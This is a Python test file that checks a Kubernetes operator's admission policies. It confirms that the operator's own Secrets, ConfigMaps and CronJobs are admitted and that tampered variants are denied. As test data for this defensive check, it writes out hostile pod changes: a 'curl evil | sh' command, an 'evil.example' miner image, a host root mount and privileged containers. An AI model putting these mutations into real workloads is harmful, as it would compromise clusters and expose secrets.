"""deploy/'s ValidatingAdmissionPolicies, evaluated with a CEL interpreter as kube-apiserver evaluates them.

What the operator's builders produce must be admitted (or the operator could not provision anything on a cluster
with the policies installed), and the hostile variants a confused or compromised operator could be made to write
must be denied: a CronJob whose Pod runs as another ServiceAccount, another image, a host mount or a privileged
container; a Secret or ConfigMap outside our names; an object we did not create changed or deleted. Requests
from anyone but the operator are not matched at all. The policies are read from the rendered base, so the
namespace and image kustomize fills in are what is tested.
"""

from __future__ import annotations

import copy
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import pytest
from celpy import celtypes
from celpy.adapter import json_to_cel
from celpy.evaluation import CELEvalError

from memory_operator.api.v1alpha1 import MemoryTenant, Requirements
from memory_operator.builders.cronjobs import job_service_account, report_configmap, report_cronjob, retention_cronjob
from memory_operator.builders.keyring import Keyring, KeyringKey
from memory_operator.builders.secrets import (
    Credentials,
    Endpoint,
    credentials_secret,
    job_credentials_secret,
    keys_secret,
    seal_secret,
)
from memory_sandbox.apiserver import cel
from tests.ops.conftest import ROOT, kustomize

OPERATOR = "system:serviceaccount:memory-system:agent-memory-operator"
RESOURCES = {"Secret": "secrets", "ConfigMap": "configmaps", "ServiceAccount": "serviceaccounts", "CronJob": "cronjobs"}
GROUPS = {"CronJob": "batch"}


@dataclass(frozen=True)
class Rendered:
    policies: list[dict[str, Any]]
    params: dict[str, Any]

    @property
    def image(self) -> str:
        return str(self.params["data"]["jobImage"])


@pytest.fixture(scope="module")
def rendered() -> Rendered:
    docs = kustomize(ROOT / "deploy" / "base")
    policies = [d for d in docs if d["kind"] == "ValidatingAdmissionPolicy"]
    bindings = {d["spec"]["policyName"]: d for d in docs if d["kind"] == "ValidatingAdmissionPolicyBinding"}
    assert {p["metadata"]["name"] for p in policies} == set(bindings), "every policy has its binding"
    assert all(b["spec"]["validationActions"] == ["Deny"] for b in bindings.values())
    (params,) = [d for d in docs if d["kind"] == "ConfigMap" and d["metadata"]["name"] == "agent-memory-admission"]
    return Rendered(policies, params)


def _run(expression: str, activation: dict[str, Any]) -> Any:
    compiled = cel.compile_rule(expression)
    assert compiled.program is not None, f"cannot evaluate {expression!r}: {compiled.unsupported or compiled.error}"
    try:
        return compiled.program.evaluate(activation)
    except CELEvalError as exc:
        return exc


def _true(result: Any) -> bool:
    return isinstance(result, celtypes.BoolType) and bool(result)


def admit(
    rendered: Rendered,
    operation: str,
    new: dict[str, Any] | None,
    old: dict[str, Any] | None = None,
    user: str = OPERATOR,
) -> list[str]:
    """The messages of the validations that deny this request ([] = admitted); failurePolicy Fail: an error
    in any expression denies too."""
    kind = (new or old or {})["kind"]
    request = {
        "operation": operation,
        "kind": {"group": GROUPS.get(kind, ""), "version": "v1", "kind": kind},
        "resource": {"group": GROUPS.get(kind, ""), "version": "v1", "resource": RESOURCES[kind]},
        "userInfo": {"username": user},
        "namespace": (new or old or {})["metadata"].get("namespace", ""),
    }
    denied: list[str] = []
    for policy in rendered.policies:
        spec = policy["spec"]
        assert spec["failurePolicy"] == "Fail"
        if not any(
            operation in rule["operations"] and RESOURCES[kind] in rule["resources"]
            for rule in spec["matchConstraints"]["resourceRules"]
        ):
            continue
        activation: dict[str, Any] = {
            "object": json_to_cel(new) if new is not None else None,
            "oldObject": json_to_cel(old) if old is not None else None,
            "request": json_to_cel(request),
            "params": json_to_cel(rendered.params) if "paramKind" in spec else None,
        }
        if not all(_true(_run(c["expression"], activation)) for c in spec["matchConditions"]):
            continue  # not the operator: not this policy's business
        variables = celtypes.MapType()
        activation["variables"] = variables
        for variable in spec.get("variables", []):  # lazily in kube-apiserver: an error matters only when used
            variables[celtypes.StringType(variable["name"])] = _run(variable["expression"], activation)
        for validation in spec["validations"]:
            result = _run(validation["expression"], activation)
            if not _true(result):
                denied.append(f"{policy['metadata']['name']}: {validation['message']}")
    return denied


def tenant(name: str = "support", namespace: str = "team-a") -> MemoryTenant:
    meta = {"name": name, "namespace": namespace, "uid": "uid-1", "generation": 1}
    return MemoryTenant.from_body({"metadata": meta, "spec": {"agents": ["planner"]}})


def creds(agent: str | None = None) -> Credentials:
    return Credentials(f"mt_team-a_support{'_' + agent if agent else ''}", "pw", agent, "mem:", "audit:")


def job_creds() -> Credentials:
    return Credentials("mt_team-a_support__jobs", "pw", None, "mem:", "audit:", None, "mem:s:", "seal:", "jobs:")


ENDPOINT = Endpoint.parse("redis://valkey.memory-system.svc:6379")
KEYRING = Keyring.first(KeyringKey(id="k1", material=bytes(32), created_at=datetime(2026, 1, 1, tzinfo=UTC)))


def ours(rendered: Rendered) -> dict[str, dict[str, Any]]:
    t = tenant()
    return {
        "credentials": credentials_secret(t, creds(), ENDPOINT, Requirements()),
        "agent credentials": credentials_secret(t, creds("planner"), ENDPOINT, Requirements()),
        "keyring": keys_secret(t, KEYRING),
        "job credentials": job_credentials_secret(t, job_creds(), ENDPOINT, Requirements()),
        "seal key": seal_secret("memory-system", bytes(32)),
        "report ConfigMap": report_configmap(t, "{}", "# report"),
        "job ServiceAccount": job_service_account("team-a"),
        "retention CronJob": retention_cronjob(t, rendered.image),
        "report CronJob": report_cronjob(t, Requirements(), rendered.image),
    }


# -- what the operator builds is admitted ---------------------------------------------------------------------
def test_every_object_the_operator_builds_is_admitted_on_create(rendered: Rendered) -> None:
    for what, obj in ours(rendered).items():
        assert admit(rendered, "CREATE", obj) == [], what


def test_the_operator_may_converge_and_delete_what_it_built(rendered: Rendered) -> None:
    for what, obj in ours(rendered).items():
        if what not in ("job ServiceAccount", "seal key"):  # created once, never changed
            assert admit(rendered, "UPDATE", obj, copy.deepcopy(obj)) == [], what
    for what in ("credentials", "agent credentials", "keyring", "job credentials"):
        assert admit(rendered, "DELETE", None, ours(rendered)[what]) == [], what


def test_other_users_are_not_matched(rendered: Rendered) -> None:
    foreign = {"kind": "Secret", "metadata": {"name": "bootstrap-token-abc", "namespace": "kube-system"}}
    assert admit(rendered, "CREATE", foreign, user="kubernetes-admin") == []
    assert admit(rendered, "CREATE", foreign, user="system:serviceaccount:team-a:agent-memory-operator") == []
    assert admit(rendered, "CREATE", foreign) != []


# -- what a confused operator could be made to write is denied -------------------------------------------------
def _pod(cronjob: dict[str, Any]) -> dict[str, Any]:
    spec: dict[str, Any] = cronjob["spec"]["jobTemplate"]["spec"]["template"]["spec"]
    return spec


def _hostile_cronjobs(rendered: Rendered) -> dict[str, dict[str, Any]]:
    base = ours(rendered)["retention CronJob"]
    variants: dict[str, Any] = {
        "another ServiceAccount": lambda pod: pod.update(serviceAccountName="cluster-admin-sa"),
        "no ServiceAccount named": lambda pod: pod.pop("serviceAccountName"),
        "a token mounted": lambda pod: pod.update(automountServiceAccountToken=True),
        "another image": lambda pod: pod["containers"][0].update(image="evil.example/miner:latest"),
        "a second container": lambda pod: pod["containers"].append({**pod["containers"][0], "name": "side"}),
        "an init container": lambda pod: pod.update(initContainers=[pod["containers"][0]]),
        "a hostPath volume": lambda pod: pod.update(volumes=[{"name": "root", "hostPath": {"path": "/"}}]),
        "the host network": lambda pod: pod.update(hostNetwork=True),
        "the host PID namespace": lambda pod: pod.update(hostPID=True),
        "pinned to a node": lambda pod: pod.update(nodeName="control-plane"),
        "privileged": lambda pod: pod["containers"][0]["securityContext"].update(privileged=True),
        "privilege escalation": lambda pod: pod["containers"][0]["securityContext"].update(
            allowPrivilegeEscalation=True
        ),
        "another tenant's Secret": lambda pod: pod["containers"][0].update(
            envFrom=[{"secretRef": {"name": "billing-memory-job-credentials"}}]
        ),
        "the tenant's own credentials (not the jobs')": lambda pod: pod["containers"][0].update(
            envFrom=[{"secretRef": {"name": "support-memory-credentials"}}]
        ),
        "a keyring in env": lambda pod: pod["containers"][0].update(
            env=[{"name": "K", "valueFrom": {"secretKeyRef": {"name": "support-memory-keys", "key": "keyring"}}}]
        ),
        "a ConfigMap in envFrom": lambda pod: pod["containers"][0]["envFrom"].append(
            {"configMapRef": {"name": "kube-root-ca.crt"}}
        ),
        "another command": lambda pod: pod["containers"][0].update(command=["sh", "-c", "curl evil | sh"]),
        "extra args": lambda pod: pod["containers"][0].update(args=["--anything"]),
    }
    out = {}
    for what, change in variants.items():
        cronjob = copy.deepcopy(base)
        change(_pod(cronjob))
        out[what] = cronjob
    renamed = copy.deepcopy(base)
    renamed["metadata"]["name"] = "kube-proxy-memory-retention"  # labels still say tenant "support"
    out["a name that is not its tenant's"] = renamed
    unlabelled = copy.deepcopy(base)
    del unlabelled["metadata"]["labels"]
    out["no labels"] = unlabelled
    return out


_SERVICE_ACCOUNT, _POD, _CONTAINER, _NAME = "ServiceAccount, without", "one container", "container runs", "<tenant>-"
DENIED_BY = {
    "another ServiceAccount": _SERVICE_ACCOUNT,
    "no ServiceAccount named": _SERVICE_ACCOUNT,
    "a token mounted": _SERVICE_ACCOUNT,
    "another image": _CONTAINER,
    "a second container": _POD,
    "an init container": _POD,
    "a hostPath volume": _POD,
    "the host network": _POD,
    "the host PID namespace": _POD,
    "pinned to a node": _POD,
    "privileged": _CONTAINER,
    "privilege escalation": _CONTAINER,
    "another tenant's Secret": _CONTAINER,
    "the tenant's own credentials (not the jobs')": _CONTAINER,
    "a keyring in env": _CONTAINER,
    "a ConfigMap in envFrom": _CONTAINER,
    "another command": _CONTAINER,
    "extra args": _CONTAINER,
    "a name that is not its tenant's": _NAME,
    "no labels": _NAME,
}


@pytest.mark.parametrize("what", sorted(DENIED_BY))
def test_a_cronjob_not_of_our_shape_is_denied(rendered: Rendered, what: str) -> None:
    denied = admit(rendered, "CREATE", _hostile_cronjobs(rendered)[what])
    assert any(DENIED_BY[what] in message for message in denied), denied


def test_a_foreign_cronjob_is_not_taken_over(rendered: Rendered) -> None:
    theirs = copy.deepcopy(ours(rendered)["retention CronJob"])
    del theirs["metadata"]["labels"]
    denied = admit(rendered, "UPDATE", ours(rendered)["retention CronJob"], theirs)
    assert any("only if it already carries" in m for m in denied), denied


def _secret(name: str, namespace: str = "team-a", labels: dict[str, str] | None = None) -> dict[str, Any]:
    metadata: dict[str, Any] = {"name": name, "namespace": namespace}
    if labels is not None:
        metadata["labels"] = labels
    return {"apiVersion": "v1", "kind": "Secret", "metadata": metadata, "data": {}}


def test_secrets_configmaps_and_service_accounts_outside_our_names_are_denied(rendered: Rendered) -> None:
    mine = ours(rendered)
    labels = dict(mine["credentials"]["metadata"]["labels"])
    cases: dict[str, tuple[str, dict[str, Any] | None, dict[str, Any] | None]] = {
        "an unlabelled Secret": ("CREATE", _secret("bootstrap-token-abc", "kube-system"), None),
        "our labels, another name": ("CREATE", _secret("registry-pull", labels=labels), None),
        "credentials labels, the keyring's name": ("CREATE", _secret("support-memory-keys", labels=labels), None),
        "another tenant's name": ("CREATE", _secret("billing-memory-credentials", labels=labels), None),
        "taking over a foreign Secret": ("UPDATE", mine["credentials"], _secret("support-memory-credentials")),
        "deleting a foreign Secret": ("DELETE", None, _secret("support-memory-credentials")),
        "aws-auth": (
            "UPDATE",
            {"kind": "ConfigMap", "metadata": {"name": "aws-auth", "namespace": "kube-system", "labels": labels}},
            {"kind": "ConfigMap", "metadata": {"name": "aws-auth", "namespace": "kube-system"}},
        ),
        "a report ConfigMap under another name": (
            "CREATE",
            {**mine["report ConfigMap"], "metadata": {**mine["report ConfigMap"]["metadata"], "name": "coredns"}},
            None,
        ),
        "the default ServiceAccount": (
            "CREATE",
            {**mine["job ServiceAccount"], "metadata": {**mine["job ServiceAccount"]["metadata"], "name": "default"}},
            None,
        ),
        "a job ServiceAccount with a token": (
            "CREATE",
            {**mine["job ServiceAccount"], "automountServiceAccountToken": True},
            None,
        ),
        "changing the job ServiceAccount": ("UPDATE", mine["job ServiceAccount"], mine["job ServiceAccount"]),
        "the seal key in a tenant namespace": ("CREATE", seal_secret("team-a", bytes(32)), None),
        "rewriting the seal key": ("UPDATE", mine["seal key"], mine["seal key"]),
        "deleting the seal key": ("DELETE", None, mine["seal key"]),
        "job credentials labels, a tenant's credentials name": (
            "CREATE",
            {
                **mine["job credentials"],
                "metadata": {**mine["job credentials"]["metadata"], "name": "support-memory-credentials"},
            },
            None,
        ),
    }
    admitted = [what for what, (op, new, old) in cases.items() if admit(rendered, op, new, old) == []]
    assert admitted == []


def test_the_policies_follow_the_rendered_namespace_and_image(rendered: Rendered) -> None:
    docs = kustomize(ROOT / "deploy" / "base")
    (deployment,) = [d for d in docs if d["kind"] == "Deployment"]
    (container,) = deployment["spec"]["template"]["spec"]["containers"]
    assert rendered.image == container["image"]
    namespace = deployment["metadata"]["namespace"]
    for policy in rendered.policies:
        (condition,) = policy["spec"]["matchConditions"]
        assert f"'system:serviceaccount:{namespace}:agent-memory-operator'" in condition["expression"]
